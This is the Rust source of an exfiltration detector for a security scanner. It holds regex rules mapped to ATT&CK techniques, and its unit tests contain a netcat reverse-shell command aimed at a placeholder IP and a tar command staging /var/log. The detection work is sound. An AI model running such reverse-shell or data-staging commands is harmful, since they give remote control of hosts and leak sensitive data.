use crate::core::{DetectionContext, LineDetector, RawFinding, Severity, ThreatCategory};
use crate::detectors::{scan_rules, Rule};
use anyhow::Result;

const RECOMMENDATION: &str =
    "Inspect outbound transfers from the host and confirm the destination is sanctioned.";

pub struct ExfiltrationDetector {
    rules: Vec<Rule>,
}

impl Default for ExfiltrationDetector {
    fn default() -> Self {
        Self::new()
    }
}

impl ExfiltrationDetector {
    pub fn new() -> Self {
        let rules = vec![
            Rule::new(
                r"(?i)\bnc\b[^|]*\s-e\s*/bin/(?:ba)?sh",
                "Exfiltration: reverse shell via netcat",
                Severity::Critical,
                0.9,
                "netcat invoked with -e to bind a shell to a remote socket.",
                "Command and Control",
                "T1071",
            ),
            Rule::new(
                r"(?i)\bbase64\b[^|]*\|\s*(?:curl|wget|nc)\b",
                "Exfiltration: encoded data piped to network client",
                Severity::High,
                0.85,
                "base64-encoded stream handed to an outbound network client.",
                "Exfiltration",
                "T1048.003",
            ),
            Rule::new(
                r"(?i)\b(?:curl|wget)\s+(?:-d|--data|--upload-file|-T|-F)\b",
                "Exfiltration: outbound data upload",
                Severity::High,
                0.75,
                "HTTP client invoked in upload mode from inside the environment.",
                "Exfiltration",
                "T1048",
            ),
            Rule::new(
                r"(?i)\b(?:scp|rsync|sftp)\b\s+\S*@",
                "Exfiltration: bulk copy to remote host",
                Severity::Medium,
                0.65,
                "File synchronization toward an external account.",
                "Exfiltration",
                "T1048.002",
            ),
            Rule::new(
                r"(?i)\b(?:tar|zip|7z)\b[^|]*\s(?:/etc|/var/log|/home)\b",
                "Exfiltration: sensitive directory staging",
                Severity::Medium,
                0.6,
                "Archive tool pointed at system or user data directories.",
                "Collection",
                "T1560.001",
            ),
        ];
        Self { rules }
    }
}

impl LineDetector for ExfiltrationDetector {
    fn id(&self) -> &'static str {
        "exfiltration"
    }

    fn name(&self) -> &'static str {
        "Exfiltration Indicator Detector"
    }

    fn category(&self) -> ThreatCategory {
        ThreatCategory::Exfiltration
    }

    fn scan(
        &self,
        line: &str,
        line_number: u64,
        _ctx: &mut DetectionContext,
    ) -> Result<Vec<RawFinding>> {
        Ok(scan_rules(
            &self.rules,
            self.category(),
            RECOMMENDATION,
            line,
            line_number,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_reverse_shell() {
        let detector = ExfiltrationDetector::new();
        let mut ctx = DetectionContext::new();
        let findings = detector
            .scan("sh -c 'nc 203.0.113.9 4444 -e /bin/bash'", 8, &mut ctx)
            .unwrap();
        assert!(findings.iter().any(|f| f.severity == Severity::Critical));
    }

    #[test]
    fn detects_staged_archive() {
        let detector = ExfiltrationDetector::new();
        let mut ctx = DetectionContext::new();
        let findings = detector
            .scan("cmd=tar czf /tmp/out.tgz /var/log", 8, &mut ctx)
            .unwrap();
        assert!(!findings.is_empty());
    }

    #[test]
    fn backup_job_phrase_is_clean() {
        let detector = ExfiltrationDetector::new();
        let mut ctx = DetectionContext::new();
        let findings = detector
            .scan("nightly backup completed in 34s, 120 files", 8, &mut ctx)
            .unwrap();
        assert!(findings.is_empty());
    }
}
